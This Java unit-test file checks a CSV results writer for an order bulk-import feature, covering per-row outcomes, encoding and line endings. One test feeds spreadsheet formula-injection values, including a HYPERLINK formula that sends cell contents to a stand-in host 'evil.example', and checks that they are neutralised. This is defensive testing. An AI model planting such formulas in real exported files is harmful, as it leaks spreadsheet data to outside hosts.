package com.orderplatform.order.bulkimport.file.csv;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;

import com.orderplatform.order.bulkimport.file.CsvFixtures;
import com.orderplatform.order.bulkimport.file.validation.RowError;
import com.orderplatform.order.bulkimport.file.validation.RowErrorCode;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import static com.orderplatform.order.bulkimport.file.CsvFixtures.CP932;
import static com.orderplatform.order.bulkimport.file.CsvFixtures.CRLF;
import static com.orderplatform.order.bulkimport.file.CsvFixtures.HEADER;
import static com.orderplatform.order.bulkimport.file.CsvFixtures.LF;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

/**
 * results.csv: every row with the order it became or why it failed, in the upload's
 * dialect.
 */
class ResultsCsvWriterTests {

	private static final String NOT_IMPORTED = "\"Not imported because row 6 of the same order (order_ref \"\"PO-2\"\")"
			+ " has errors and an order is imported whole or not at all; fix those rows and upload all rows of the"
			+ " order again.\"";

	@TempDir
	Path dir;

	@Test
	void writesEveryRowWithItsOrderIdOrItsErrors() {
		String results = new String(
				CsvFixtures.read(ImportReports.resultsCsv(CsvFixtures.copy(this.dir, "order-refs.csv"))),
				StandardCharsets.UTF_8);

		assertThat(results.split(LF)).containsExactly(
				"row_number,result,order_id,error_code,error_message,item_notes,order_ref,customer_email,customer_name,product_name,quantity,unit_price,currency,notes",
				"2,imported,101,,,,PO-1,tanaka@example.co.jp,田中太郎,ノートPC,2,89800,JPY,",
				"3,imported,101,,,,PO-1,tanaka@example.co.jp,田中太郎,マウス,2,3500,JPY,",
				"4,failed,,ORDER_HAS_INVALID_ROW," + NOT_IMPORTED
						+ ",,PO-2,suzuki@example.co.jp,鈴木花子,モニター27インチ,1,45000,JPY,",
				"5,imported,102,,,,PO-3,sato@example.co.jp,佐藤健一,キーボード,10,12500,JPY,",
				"6,failed,,QUANTITY_BELOW_ONE,\"quantity (数量) must be at least 1 but is \"\"0\"\"; remove the row if"
						+ " nothing is ordered.\",,PO-2,suzuki@example.co.jp,鈴木花子,Webカメラ,0,6980,JPY,数量未定",
				"7,imported,102,,,,PO-3,sato@example.co.jp,佐藤健一,マウス,10,3500,JPY,",
				"8,failed,,ORDER_HAS_INVALID_ROW," + NOT_IMPORTED
						+ ",,PO-2,suzuki@example.co.jp,鈴木花子,ヘッドセット,1,8980,JPY,",
				"9,imported,103,,,,,yamada@example.co.jp,山田美咲,付箋,5,380,JPY,",
				"10,imported,104,,,,PO-1,kato@example.co.jp,加藤誠,電卓,1,1480,JPY,");
	}

	@Test
	void neutralisesFormulaCellsOfImportedAndFailedRows() {
		String results = new String(
				CsvFixtures.read(ImportReports.resultsCsv(CsvFixtures.copy(this.dir, "formula-cells.csv"))),
				StandardCharsets.UTF_8);

		assertThat(results.split(LF)).hasSize(3);
		assertThat(results.split(LF)[1]).isEqualTo("2,imported,101,,,'+81-3-1234-5678,attacker@example.co.jp,"
				+ "\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1)\",ノートPC,1,89800,JPY,'+81-3-1234-5678");
		assertThat(results.split(LF)[2]).endsWith(",,x@example.co.jp,'@SUM(1+1),'-2+3,0,3500,JPY,'-5");
	}

	@Test
	void writesInTheUploadsEncodingAndLineEndings() {
		Path upload = CsvFixtures.file(this.dir, "upload.csv", CsvFixtures.bytes(CP932, false, CRLF, HEADER,
				"takahashi@example.co.jp,髙橋一郎,①番ラック,2,12000,JPY,㈱髙橋商事 宛"));

		byte[] results = CsvFixtures.read(ImportReports.resultsCsv(upload));

		assertThat(results).isEqualTo(CsvFixtures.bytes(CP932, false, CRLF,
				"row_number,result,order_id,error_code,error_message,item_notes," + HEADER,
				"2,imported,101,,,㈱髙橋商事 宛,takahashi@example.co.jp,髙橋一郎,①番ラック,2,12000,JPY,㈱髙橋商事 宛"));
	}

	@Test
	void refusesAnOutcomeWithBothOrNeitherAnOrderAndErrors() {
		RowError error = new RowError(2, null, RowErrorCode.EXTRA_CELLS, "extra");

		assertThatIllegalArgumentException().isThrownBy(() -> new RowOutcome(2, List.of(), 5L, List.of(error), ""))
			.withMessage("Row 2 must have either an order id or errors");
		assertThatIllegalArgumentException().isThrownBy(() -> RowOutcome.failed(2, List.of(), List.of()))
			.withMessage("Row 2 must have either an order id or errors");
	}

}
